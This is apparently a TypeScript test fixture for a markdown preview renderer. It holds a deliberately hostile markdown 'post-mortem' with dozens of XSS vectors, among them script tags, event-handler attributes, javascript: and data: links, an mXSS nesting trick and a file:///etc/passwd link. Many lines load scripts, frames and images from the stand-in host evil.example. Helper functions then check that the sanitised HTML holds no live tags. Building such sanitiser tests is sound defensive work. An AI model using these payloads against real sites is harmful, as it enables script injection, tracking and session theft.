// A post-mortem written by an attacker: every way markdown or raw HTML could run script, load
// something from the network or navigate the preview. Shared by the render security tests and the
// browser test. Each script would set window.__pwned or the title if it ever ran.
export const EVIL = 'evil.example';

export const HOSTILE = `---
title: "</title><script>window.__pwned = 'front matter'</script>"
severity: "<img src=x onerror=window.__pwned='severity'>"
---
# Post-Mortem: <script>window.__pwned = 'title'</script> Hostile <img src=x onerror="window.__pwned='h1'">

**Date:** 2025-02-18
**Severity:** <b onmouseover="window.__pwned='field'">P1</b>
**Status:** Resolved

<script>window.__pwned = 'script'; document.title = 'pwned';</script>
<SCRIPT SRC="https://${EVIL}/x.js"></SCRIPT>
<img src="x" onerror="window.__pwned='img onerror'">
<svg onload="window.__pwned='svg onload'"><circle r="5"/></svg>
<iframe src="https://${EVIL}/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh">
<base href="https://${EVIL}/">
<link rel="stylesheet" href="https://${EVIL}/style.css">
<style>body { background: url(https://${EVIL}/bg.png) } @import url("https://${EVIL}/import.css");</style>
<div style="background-image: url(https://${EVIL}/div.png)">styled</div>
<object data="https://${EVIL}/object.swf"></object>
<embed src="https://${EVIL}/embed.swf">
<form action="https://${EVIL}/form"><input name="q" autofocus onfocus="window.__pwned='autofocus'"><button formaction="javascript:window.__pwned='formaction'">go</button></form>
<a href="javascript:window.__pwned='raw link'">raw link</a>
<video src="https://${EVIL}/video.mp4" poster="https://${EVIL}/poster.png"></video>
<audio src="https://${EVIL}/audio.mp3" autoplay></audio>
<details open ontoggle="window.__pwned='ontoggle'"><summary>x</summary></details>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>

## Incident Summary

Links: [js](javascript:window.__pwned='md link') [JS](JaVaScRiPt:window.__pwned='case')
[entity](&#106;avascript:window.__pwned='entity') [spaced](<javascript :alert(1)>)
[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)
[vbscript](vbscript:msgbox(1)) [file](file:///etc/passwd) <javascript:window.__pwned='autolink'>
[ok](https://example.com/ok) [relative](./other.md#L3)

Images: ![remote](https://${EVIL}/track.png) ![proto-relative](//${EVIL}/p.png)
![backslash](\\\\${EVIL}\\share\\x.png) ![svg data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![html data](data:text/html,<script>alert(1)</script>) ![js](javascript:alert(1))

Reference: [ref link][evil] and ![ref image][evilimg]

[evil]: javascript:window.__pwned='ref'
[evilimg]: https://${EVIL}/ref.png

Footnote with markup[^x].

[^x]: <script>window.__pwned='footnote'</script> note

## Timeline

| Time (UTC) | Event |
|------------|-------|
| 13:52 | Incident began: <img src=x onerror="window.__pwned='cell'"> errors |
| 14:03 | Incident detected: <script>window.__pwned='entry'</script> alert |
| 14:06 | On-call acknowledged |
| 16:07 | Service restored |

## Action Items

| Action | Owner | Due Date | Status |
|--------|-------|----------|--------|
| <svg onload=alert(1)> fix | <script>x</script> | 2025-03-01 | Open |

\`\`\`html
<script>window.__pwned = 'code block'</script>
\`\`\`
`;

export interface Tag {
  name: string;
  attrs: Map<string, string>;
}

/** Every start tag of our (well-formed, always double-quoted) output, with its attributes. Quoted
 *  values are consumed whole, so a '<' inside an attribute is never mistaken for a tag. */
export function startTags(html: string): Tag[] {
  const out: Tag[] = [];
  const TAG = /<!--[\s\S]*?-->|<!DOCTYPE[^>]*>|<\/[a-zA-Z][\w:-]*\s*>|<([a-zA-Z][\w:-]*)((?:\s+[^\s=>/"']+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*)\s*\/?>/g;
  const ATTR = /\s+([^\s=>/"']+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+)))?/g;
  for (const m of html.matchAll(TAG)) {
    if (!m[1]) continue;
    const attrs = new Map<string, string>();
    for (const a of (m[2] ?? '').matchAll(ATTR)) attrs.set(a[1]!.toLowerCase(), a[2] ?? a[3] ?? a[4] ?? '');
    out.push({ name: m[1].toLowerCase(), attrs });
  }
  return out;
}

/** Text outside tags must not contain a raw '<' (everything the document wrote is escaped). */
export function strayAngles(html: string): string[] {
  const rest = html.replace(/<!--[\s\S]*?-->|<!DOCTYPE[^>]*>|<\/?[a-zA-Z][\w:-]*(?:\s+[^\s=>/"']+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*\s*\/?>/g, '');
  // Our own inline CSS is the only raw text with '>' characters (selectors); it has no '<'.
  return [...rest.matchAll(/<.{0,40}/g)].map((m) => m[0]);
}
